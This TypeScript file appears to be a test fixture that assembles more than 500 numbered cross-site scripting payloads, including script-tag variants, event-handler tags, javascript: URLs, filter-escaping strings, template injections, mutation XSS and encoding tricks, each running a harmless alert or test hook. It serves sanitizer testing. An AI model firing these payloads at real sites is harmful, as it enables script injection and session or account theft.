/**
 * More than 500 distinct XSS payloads, built from parts. Each has a unique number, so that one that runs can
 * be identified. They are interleaved by kind, so that any part of the list has some of every kind.
 */

export type Payload = { number: number; text: string }

/** Where the code goes, marked with `§`. */
const SCRIPTS = [
  '<script>§</script>',
  '<SCRIPT>§</SCRIPT>',
  '<script\t>§</script\n>',
  '<script/x>§</script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<script>/*<!--*/§//--></script>',
  '<svg><script>§</script></svg>',
  '<svg><script href="data:text/javascript,§"/>',
  '<math><script>§</script>',
  '<script src="data:text/javascript,§"></script>',
  '<script src=//xss.example/#§></script>',
  '<script type=module>§</script>',
]

const EVENT_TAGS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'video><source onerror',
  'audio src=x onerror',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'link rel=stylesheet href=x onerror',
  'style onload',
  'svg><animate attributeName=x dur=1s onbegin',
  'svg><set attributeName=x onbegin',
  'x tabindex=1 autofocus onfocus',
  'x style=animation-name:fade onanimationstart',
  'div onpointerenter',
  'p onmouseover',
  'image src=x onerror',
  'dialog open onbeforetoggle',
  'input type=image src=x onerror',
]

/** Ways to write an element with a handler. `@` is the name and attributes, `§` the code. */
const SPELLINGS: [string, (tag: string) => string][] = [
  ['<@=§>', (tag) => tag],
  ['<@="§">', (tag) => tag.toUpperCase()],
  ["<@='§'//", (tag) => tag.replaceAll(' ', '/')],
  ['"><@=§>', (tag) => tag],
  ["'><@=§>", (tag) => tag.replaceAll(' ', '\u000c')],
  ['**<@=§>**', (tag) => tag],
  ['<@=&#32;§>', (tag) => tag.replaceAll(' ', '\n')],
  ['</textarea><@=§>', (tag) => tag],
]

const URLS = [
  'javascript:§',
  'JaVaScRiPt:§',
  'java\tscript:§',
  '\u0001javascript:§',
  'javascript&colon;§',
  '&#106;avascript:§',
  'javascript://x%0a§',
  'data:text/html,<script>§</script>',
  'vbscript:§',
]
/** `@` is the URL. */
const CARRIERS = [
  '<a href="@">open</a>',
  '<iframe src="@"></iframe>',
  '<form action="@"><button>send</button></form>',
  '<button form=x formaction="@">send</button>',
  '<object data="@"></object>',
  '<svg><a xlink:href="@"><text y=20>open</text></a></svg>',
  '<math href="@">open</math>',
  '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '[open](@)',
  '![open](@)',
  '<@>',
  '@',
]

const ESCAPES = [
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
  '</noscript>',
  '</xmp>',
  '</select>',
  '-->',
  ']]>',
  '\\">',
  '&quot;>',
  '\u2028',
  '%00',
  '=">',
]

const INSIDE_SCRIPTS = [
  '";§//',
  "';§//",
  '`;§//',
  '\\";§//',
  '"-§-"',
  "'-§-'",
  `$${'{§}'}`,
  '*/§/*',
  '")};§;({"',
  '{{constructor.constructor("§")()}}',
  "{{$on.constructor('§')()}}",
  '{{_c.constructor("§")()}}',
  `[[$${'{§}'}]]`,
  '#{§}',
  '<%= § %>',
  '<div ng-app ng-csp>{{§}}</div>',
  '<x v-html="§">',
  '<x :[§]>',
  '{"__html":"<img src=x onerror=§>"}',
  '{"$$typeof":"react.element","type":"script","props":{"children":"§"}}',
]

/** Mutation XSS: parses differently after being serialized. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=§>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>">',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<listing>&lt;img src=x onerror=§&gt;</listing>',
  '<svg><style>&lt;img src=x onerror=§&gt;</style>',
  '<p title="</p><img src=x onerror=§>">',
  '<table><caption><svg><title><table><img src=x onerror=§></table></title></svg>',
  '<template><img src=x onerror=§></template>',
  '<div><template shadowrootmode=open><img src=x onerror=§></template></div>',
  '<svg><foreignObject><img src=x onerror=§></foreignObject></svg>',
  '<svg><desc><img src=x onerror=§></desc></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>',
  '<a href="x" title="`><img src=x onerror=§>`">',
  '<!--><img src=x onerror=§>-->',
  '<!--!><img src=x onerror=§>',
  '<![CDATA[><img src=x onerror=§>]]>',
  '<?xml ?><img src=x onerror=§>',
  '<xmp><p title="</xmp><svg/onload=§>">',
  '<iframe srcdoc="<img src=x onerror=parent.§>">',
  '<select><iframe></select><img src=x onerror=§>',
  '<img src=x:x onerror=§ <p>',
]

const STYLES = [
  '<style>*{background:url(javascript:§)}</style>',
  '<div style="width:expression(§)">',
  '<div style="background:url(//xss.example/§)">',
  '<link rel=stylesheet href="//xss.example/§">',
  '<style>@import"//xss.example/§";</style>',
  "@import'//xss.example/§';",
  '</style><img src=x onerror=§>',
  ';position:fixed;inset:0;background:url(//xss.example/§)',
  '<div style=behavior:url(#§)>',
  '<x style="-moz-binding:url(//xss.example/§)">',
  'url("javascript:§")',
  '<img src="//xss.example/§">',
  '<img srcset="//xss.example/§ 1x">',
  '<link rel=prefetch href="//xss.example/§">',
  '<video poster="//xss.example/§">',
]

/** Harmless-looking text that a careless parser turns back into markup. */
const ENCODINGS: ((text: string) => string)[] = [
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
  (text) => text.replaceAll('s', '\u017f').replaceAll('i', '\u0131'),
  (text) => text.replace('<', '<\u200b'),
  (text) => `\u202e${text}`,
  (text) => text.replaceAll('<', '\u226e').normalize('NFD'),
  (text) => `\ufeff${text}`,
]
const ENCODED = [
  '<script>§</script>',
  '<img src=x onerror=§>',
  '<svg/onload=§>',
  '<a href="javascript:§">open</a>',
]

/** A note uses bold markers for its sections. */
const MARKERS = [
  '**@:**',
  '**@**',
  '** @ **:',
  '**PLAN:** @',
  '**PLAN@:**',
  '***@***',
  '**@',
  '- @',
  '# @',
  '> @',
  '`@`',
  '~~@~~',
]

function families(): string[][] {
  return [
    SCRIPTS,
    ...SPELLINGS.map(([form, spell]) => EVENT_TAGS.map((tag) => form.replace('@', () => spell(tag)))),
    ...CARRIERS.map((carrier) => URLS.map((url) => carrier.replace('@', () => url))),
    ESCAPES.flatMap((end) => [`${end}<img src=x onerror=§>`, `${end}<script>§</script>`]),
    INSIDE_SCRIPTS,
    MUTATIONS,
    STYLES,
    ...ENCODINGS.map((encode) =>
      ENCODED.map((text) => encode(text.replace('§', 'CODE')).replace('CODE', '§')),
    ),
    MARKERS.flatMap((marker) =>
      ['<img src=x onerror=§>', '<script>§</script>'].map((text) => marker.replace('@', () => text)),
    ),
  ]
}

/** Half of them open a dialog; half call a function defined by the test. */
function codeOf(number: number): string {
  return number % 2 === 0 ? `alert(${number})` : `__xss(${number})`
}

export function xssPayloads(): Payload[] {
  const queues = families()
  const texts: string[] = []
  while (queues.some((queue) => queue.length > 0)) {
    for (const queue of queues) {
      const text = queue.shift()
      if (text !== undefined) texts.push(text)
    }
  }
  return texts.map((text, index) => ({
    number: index + 1,
    text: text.replaceAll('§', codeOf(index + 1)),
  }))
}
